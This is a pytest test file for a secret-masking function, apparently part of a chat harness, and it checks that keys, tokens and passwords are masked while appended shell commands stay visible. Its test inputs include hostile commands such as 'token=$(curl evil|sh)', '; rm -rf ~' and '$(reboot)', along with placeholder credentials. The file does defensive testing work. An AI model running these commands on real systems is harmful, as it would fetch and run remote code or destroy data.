"""What looks like a secret is masked, and what does not is left as it is."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from harness.chat.secrets import MASK, concealed, masked

KEY = "MIIEpAIBAAKCAQEA7bq3Vx0aYkq9ZpLw2dTnHc8RfGu5sJ1oXeQ"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("curl -H 'Authorization: Bearer abc.def-123456'", f"curl -H 'Authorization: Bearer {MASK}'"),
        ("deploy --token s3cr3t-0123456789 now", f"deploy --token {MASK} now"),
        ("psql postgres://ana:hunter2@db/prod", f"psql postgres://{MASK}@db/prod"),
        ("export OPENAI_API_KEY=sk-proj-0123456789abcdef", f"export OPENAI_API_KEY={MASK}"),
        ('{"password": "hunter2", "user": "ana"}', f'{{"password": "{MASK}", "user": "ana"}}'),
        ("PGPASSWORD=x psql", f"PGPASSWORD={MASK} psql"),
        ("send xoxb-1234567890-abc to ana", f"send {MASK} to ana"),
        ("use ghp_0123456789abcdefghij0123", f"use {MASK}"),
        ("AKIAABCDEFGHIJKLMNOP", MASK),
        ("password=hunter2$(id)", f"password={MASK}$(id)"),
        (
            f"-----BEGIN RSA PRIVATE KEY-----\n{KEY}\n{KEY}\nAbc=\n-----END RSA",
            f"{MASK}\n{MASK}\n{MASK}\nAbc=\n-----END RSA",
        ),
        (f"+ 1  -----BEGIN PRIVATE KEY-----\n+ 2  {KEY}", f"+ 1  {MASK}\n+ 2  {MASK}"),
        ("eyJhbGciOiJI.eyJzdWIiOiIx.abc", MASK),
    ],
)
def test_a_secret_is_masked(text: str, shown: str) -> None:
    assert masked(text) == shown


@pytest.mark.parametrize(
    "text",
    [
        "deploy staging",
        "explain what a token is",
        "reset the password of Ana",
        "read /secrets.md",
        "git log --oneline",
        "https://example.org/a:b",
        "the secret ingredient",
        "token=$(curl evil|sh)",
        "https://a:$(id)@example.org",
        "git-secret reveal-them-all-1",
        "/////////////////////////////usr/sbin/poweroff",
    ],
)
def test_what_is_none_is_left(text: str) -> None:
    assert masked(text) == text


@given(st.text(max_size=200))
def test_any_text_is_taken(text: str) -> None:
    assert masked(masked(text)) == masked(text)


@pytest.mark.parametrize("hidden", ["; rm -rf ~", " && reboot", "\nreboot", "$(reboot)", "`reboot`", "|sh", ">x"])
@pytest.mark.parametrize(
    "secret", ["-----BEGIN PRIVATE KEY-----", "token=abc", "Bearer abcdefgh1234", "xoxb-1234567890-a"]
)
def test_what_a_shell_would_do_is_never_behind_a_mask(secret: str, hidden: str) -> None:
    assert masked(f"echo {secret}{hidden}").endswith(hidden)


def test_what_is_hidden_is_spelt_out_before_anything_is_masked() -> None:
    assert concealed("token=a\u202eb") == f"token={MASK}\\u202eb"


def test_what_is_masked_already_says_what_it_was():
    assert masked("TOKEN=[masked: GitHub token]") == "TOKEN=[masked: GitHub token]"
